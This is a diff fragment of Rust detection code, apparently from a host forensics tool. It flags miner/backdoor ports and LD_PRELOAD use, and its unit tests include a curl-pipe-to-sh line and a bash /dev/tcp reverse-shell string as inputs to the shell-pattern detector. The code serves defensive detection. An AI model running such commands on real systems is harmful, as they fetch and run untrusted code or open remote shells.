+                    "{procs} is connected to {}:{}, a known miner/backdoor port",
+                    s.rec.remote_addr, s.rec.remote_port
+                ),
+                ctx.ev(
+                    s,
+                    format!("socket to {}:{}", s.rec.remote_addr, s.rec.remote_port),
+                    Some(&s.rec.source),
+                ),
+                vec![
+                    Ioc::Address(s.rec.remote_addr.clone()),
+                    Ioc::Port(s.rec.remote_port),
+                ],
+            ));
+        }
+    }
+    out
+}
+
+fn ld_preload(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    ctx.procs
+        .iter()
+        .filter(|p| {
+            p.rec
+                .ld_preload
+                .as_deref()
+                .is_some_and(|v| !v.trim().is_empty())
+        })
+        .map(|p| {
+            let lib = p.rec.ld_preload.clone().unwrap_or_default();
+            let mut iocs = proc_iocs(p);
+            iocs.extend(
+                lib.split([':', ' '])
+                    .filter(|s| s.starts_with('/'))
+                    .map(|s| Ioc::Path(s.to_string())),
+            );
+            finding(
+                format!("pid {}", p.rec.pid),
+                format!(
+                    "process {} ({}) runs with LD_PRELOAD={lib}",
+                    p.rec.pid, p.rec.comm
+                ),
+                proc_ev(ctx, p),
+                iocs,
+            )
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn catalog_ids_are_unique_and_documented() {
+        let mut ids: Vec<&str> = CATALOG.iter().map(|r| r.id).collect();
+        ids.sort();
+        ids.dedup();
+        assert_eq!(ids.len(), CATALOG.len());
+        for r in CATALOG {
+            assert!(!r.mitre.is_empty() && r.doc.contains("FP:"), "{}", r.id);
+        }
+    }
+
+    #[test]
+    fn helpers() {
+        assert!(names_match("ssh.service", "sshd"));
+        assert!(names_match("nginx.service", "nginx"));
+        assert!(names_match("systemd-journald.service", "systemd-journald"));
+        assert!(!names_match("python.service", "log"));
+        assert!(unusual_location("/var/log/log").is_some());
+        assert!(unusual_location("/home/a/.cache/x").is_some());
+        assert!(unusual_location("/usr/bin/ls").is_none());
+        assert_eq!(span_seconds("5min"), Some(300));
+        assert_eq!(span_seconds("1h 5min"), Some(3900));
+        assert_eq!(span_seconds("daily"), None);
+        assert!(shell_pattern("curl -fsSL http://x/a.sh | sh", true).is_some());
+        assert!(shell_pattern("/bin/bash -c 'exec 5<>/dev/tcp/1.2.3.4/4444'", true).is_some());
+        assert!(shell_pattern("/bin/sh -c 'echo hi'", true).is_none());
+        assert!(shell_pattern("/bin/sh -c 'echo hi'", false).is_some());
+        assert!(
+            shell_pattern(
+                "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
+                true
+            )
+            .is_none()
+        );
+        assert_eq!(
+            segment_programs("test -e /run/x || SERVICE_MODE=1 /usr/lib/e2scrub_all_cron"),
+            vec!["/usr/lib/e2scrub_all_cron"]
+        );
+    }
+}
